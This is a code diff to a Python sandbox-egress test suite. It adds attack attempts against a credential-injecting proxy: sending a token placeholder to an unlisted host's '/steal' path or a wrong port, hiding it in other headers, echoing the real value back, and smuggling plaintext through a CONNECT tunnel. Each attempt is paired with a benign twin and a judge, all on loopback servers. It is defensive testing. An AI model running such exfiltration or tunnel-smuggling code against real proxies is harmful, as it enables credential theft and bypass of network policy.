@@ -14,7 +14,7 @@ from collections.abc import Callable
 from typing import Any
 
 from ..egress import HostsResolver, NetworkOptions
-from ..egress.testing import LoopbackServer
+from ..egress.testing import LoopbackServer, RawRecorder
 from ._attempts import Attempt
 
 ALLOWED = "allowed.drill.test"
@@ -51,12 +51,18 @@ CRED_ENV = "GLASSROOM_DRILL_PROXY_TOKEN"
 
 def setup_net() -> tuple[dict[str, Any], Callable[[], None]]:
     server = LoopbackServer()
+    #: A second port on the same host: allowed, but not one of the credential's.
+    other = LoopbackServer()
+    #: Takes what a CONNECT tunnel forwards, to see what got through.
+    raw = RawRecorder()
     secret = "glsr-drill-real-" + os.urandom(6).hex()
     os.environ[CRED_ENV] = secret
     net = {
         "secret": secret,
         "server": server,
         "port": server.port,
+        "other": other,
+        "raw": raw,
         "options": NetworkOptions(
             resolver=HostsResolver({ALLOWED: "127.0.0.1", UNLISTED: "127.0.0.1"})
         ),
@@ -64,6 +70,8 @@ def setup_net() -> tuple[dict[str, Any], Callable[[], None]]:
     def cleanup() -> None:
         os.environ.pop(CRED_ENV, None)
         server.close()
+        other.close()
+        raw.close()
 
     return net, cleanup
 
@@ -99,12 +107,31 @@ def network_attempts(net: dict[str, Any]) -> list[Attempt]:
     def placeholder_kept(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
         sent = {h[1]: {k.lower(): v for k, v in s.items()}
                 for h, s in zip(server.hits, server.seen_headers, strict=True)}  # fmt: skip
-        twin_auth = sent.get("/twin", {}).get("authorization", "")
         stolen = sent.get("/steal", {}).get("authorization", "")
         secret = net["secret"]
-        return (fetched(t) and twin_auth == f"Bearer {secret}",
+        return (cred_twin(t),
                 bool(stolen) and secret not in stolen and "glsr-" in stolen,
                 f"unlisted host got {stolen[:24]}…")  # fmt: skip
+
+    # The credential goes to ALLOWED on the server's port only.
+    cred_policy = {
+        "network": {"allow": [ALLOWED, UNLISTED]},
+        "credentials": [{"name": "token", "source": f"env:{CRED_ENV}", "inject": "proxy",
+                         "hosts": [f"{ALLOWED}:{port}"]}],
+    }  # fmt: skip
+    cred_twin_cmd = _py(
+        "import os\n"
+        f"r = urllib.request.Request('http://{ALLOWED}:{port}/twin-cred')\n"
+        "r.add_header('Authorization', 'Bearer ' + os.environ['GLASSROOM_SECRET_TOKEN'])\n"
+        "print('OK', urllib.request.urlopen(r, timeout=10).status, 'ok GET /twin')\n"
+    )
+
+    def cred_twin(t: Any) -> bool:
+        """The twin's request reached the listed host with the real value."""
+        auth = [{k.lower(): v for k, v in s.items()}.get("authorization")
+                for h, s in zip(server.hits, server.seen_headers, strict=True)
+                if h[1] == "/twin-cred"]  # fmt: skip
+        return bool(fetched(t) and auth and auth[-1] == f"Bearer {net['secret']}")
 
     opts = net["options"]
     return [
@@ -163,8 +190,8 @@ def network_attempts(net: dict[str, Any]) -> list[Attempt]:
         Attempt(
             "placeholder-exfiltration",
             "send a proxy credential's placeholder to a host it is not for",
-            # Twin: the listed host gets the real value, added by the proxy.
-            _py(f"fetch('http://{ALLOWED}:{port}/twin')"),
+            # Twin: the listed host gets the real value, swapped in by the proxy.
+            cred_twin_cmd,
             _py(
                 "import os\n"
                 f"r = urllib.request.Request('http://{UNLISTED}:{port}/steal')\n"
@@ -173,11 +200,142 @@ def network_attempts(net: dict[str, Any]) -> list[Attempt]:
             ),
             placeholder_kept,
             rule="credentials[0].hosts",
-            policy={
-                "network": {"allow": [ALLOWED, UNLISTED]},
-                "credentials": [{"name": "token", "source": f"env:{CRED_ENV}", "inject": "proxy",
-                                 "hosts": [ALLOWED]}],
-            },  # fmt: skip
+            policy=cred_policy,
             network=opts,
         ),
+        *credential_attempts(net, cred_policy, cred_twin_cmd, cred_twin),
     ]
+
+
+_RAW_TUNNEL = (
+    "import os, socket, ssl, time\n"
+    "host, port = os.environ['HTTP_PROXY'].split('//')[1].rsplit(':', 1)\n"
+    "inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
+    "obj = ssl.create_default_context().wrap_bio(inc, out, server_hostname='{name}')\n"
+    "try:\n"
+    "    obj.do_handshake()\n"
+    "except ssl.SSLWantReadError:\n"
+    "    pass\n"
+    "s = socket.create_connection((host, int(port)), timeout=10)\n"
+    "s.sendall(b'CONNECT {name}:{port} HTTP/1.1\\r\\nHost: {name}:{port}\\r\\n\\r\\n')\n"
+    "print('CONNECT', s.recv(200).split(b'\\r\\n')[0].decode())\n"
+    "s.sendall(out.read()); time.sleep(0.3)\n"
+    "try:\n"
+    "    s.sendall({payload!r}); time.sleep(0.5)\n"
+    "    s.settimeout(2); print('BACK', len(s.recv(100)))\n"
+    "except OSError as e:\n"
+    "    print('ERR', type(e).__name__)\n"
+)
+
+
+def credential_attempts(net: dict[str, Any], cred_policy: dict[str, Any], twin: list[str],
+                        twin_ok: Callable[[Any], bool]) -> list[Attempt]:  # fmt: skip
+    """Issue 13, item 1: the credential reaches exactly its host:port pairs, in
+    its own header, never comes back, and a tunnel must be TLS throughout."""
+    port, secret = net["port"], net["secret"]
+    server: LoopbackServer = net["server"]
+    other: LoopbackServer = net["other"]
+    raw: RawRecorder = net["raw"]
+    opts = net["options"]
+    # The servers outlive one attempt (a drill run, a test module): each set
+    # of attacks marks its own requests, and the judges look at those only.
+    mark = os.urandom(4).hex()
+
+    def headers_at(srv: LoopbackServer, prefix: str) -> list[dict[str, str]]:
+        return [{k.lower(): v for k, v in s.items()}
+                for h, s in zip(srv.hits, srv.seen_headers, strict=True)
+                if h[1].startswith(prefix)]  # fmt: skip
+
+    def wrong_port(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
+        got = headers_at(other, f"/steal-port/{mark}")
+        auths = [h.get("authorization") for h in got]
+        blocked = (len(got) == 2 and all(secret not in str(h) for h in got)
+                   and "glsr-" in str(auths[0]) and auths[1] is None)  # fmt: skip
+        return twin_ok(t), blocked, f"other port got {[str(x)[:20] for x in auths]}"
+
+    def other_headers(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
+        got = headers_at(server, f"/steal-header/{mark}")
+        names = ("user-agent", "cookie", "referer", "x-anything")
+        blocked = (len(got) == 1 and secret not in str(got[0])
+                   and all("glsr-" in got[0].get(n, "") for n in names))  # fmt: skip
+        return twin_ok(t), blocked, "placeholder kept in " + ",".join(
+            n for n in names if got and "glsr-" in got[-1].get(n, ""))
+
+    def echoed(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
+        got = headers_at(server, f"/echo/{mark}")
+        sent = bool(got) and all(h.get("authorization") == f"Bearer {secret}" for h in got)
+        out = a.stdout + a.stderr
+        shown = out.count("OK 200")
+        blocked = sent and shown >= 5 and secret not in out and "Bearer glsr-" in out
+        return twin_ok(t), blocked, f"{len(got)} echoes sent the value; {shown} came back"
+
+    def cut(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
+        conns = [bytes(c) for c in raw.conns]
+        twin_through = any(b"TWIN-" + mark.encode() in c for c in conns)
+        smuggled = any(b"SMUGGLED-" + mark.encode() in c for c in conns)
+        return (t.exit_code == 0 and "CONNECT HTTP/1.1 200" in t.stdout and twin_through,
+                "CONNECT HTTP/1.1 200" in a.stdout and not smuggled,
+                a.stdout.strip().replace("\n", " ")[:60])
+
+    echo = (
+        "import os, base64\n"
+        "ph = os.environ['GLASSROOM_SECRET_TOKEN']\n"
+        "def get(path, method='GET', extra=()):\n"
+        f"    r = urllib.request.Request('http://{ALLOWED}:{port}' + path, method=method)\n"
+        "    r.add_header('Authorization', 'Bearer ' + ph)\n"
+        "    for k, v in extra:\n"
+        "        r.add_header(k, v)\n"
+        "    try:\n"
+        "        resp = urllib.request.urlopen(r, timeout=10)\n"
+        "        body = resp.read()\n"
+        "        print('OK', resp.status, dict(resp.headers), body.decode('latin-1'))\n"
+        "        return body\n"
+        "    except urllib.error.HTTPError as e:\n"
+        "        print('ERR', e.code)\n"
+        "    return b''\n"
+        f"e = '/echo/{mark}'\n"
+        "get(e); get(e + '?chunked=3'); get(e + '?close=1'); get(e, 'HEAD')\n"
+        "get(e, extra=[('Range', 'bytes=22-40')])\n"
+        "print('B64', base64.b64decode(get(e + '?b64=1')).decode('latin-1'))\n"
+    )
+    other_hdr = (
+        "import os\n"
+        "ph = os.environ['GLASSROOM_SECRET_TOKEN']\n"
+        f"r = urllib.request.Request('http://{ALLOWED}:{port}/steal-header/{mark}')\n"
+        "for k in ('User-Agent', 'Cookie', 'Referer', 'X-Anything'):\n"
+        "    r.add_header(k, 'v ' + ph)\n"
+        "print('OK', urllib.request.urlopen(r, timeout=10).status)\n"
+    )
+    wrong = (
+        "import os\n"
+        "ph = os.environ['GLASSROOM_SECRET_TOKEN']\n"
+        f"r = urllib.request.Request('http://{ALLOWED}:{other.port}/steal-port/{mark}/placeholder')\n"
+        "r.add_header('Authorization', 'Bearer ' + ph)\n"
+        "print('OK', urllib.request.urlopen(r, timeout=10).status)\n"
+        f"fetch('http://{ALLOWED}:{other.port}/steal-port/{mark}/none')\n"
+    )
+    tls_policy = {"network": {"allow": [ALLOWED]}}
+    return [
+        Attempt("credential-wrong-port",
+                "send a proxy credential to its host on a port it is not listed for",
+                twin, _py(wrong), wrong_port, rule="credentials[0].hosts",
+                policy=cred_policy, network=opts),
+        Attempt("credential-other-header",
+                "put a proxy credential's placeholder in headers it is not for",
+                twin, _py(other_hdr), other_headers, rule="credentials[0].header",
+                policy=cred_policy, network=opts),
+        Attempt("credential-echo",
+                "have the listed host echo the request, to read the real value back",
+                twin, _py(echo), echoed, rule="credentials[0].inject",
+                policy=cred_policy, network=opts),
+        Attempt("tunnel-not-tls",
+                "open a CONNECT tunnel, send a real ClientHello, then plaintext",
+                ["python3", "-c", _RAW_TUNNEL.format(
+                    name=ALLOWED, port=raw.port,
+                    payload=b"\x17\x03\x03\x00\x10TWIN-" + mark.encode() + b"...")],
+                ["python3", "-c", _RAW_TUNNEL.format(
+                    name=ALLOWED, port=raw.port,
+                    payload=b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\nSMUGGLED-"
+                    + mark.encode())],
+                cut, rule="network.sni", policy=tls_policy, network=opts),
+    ]  # fmt: skip
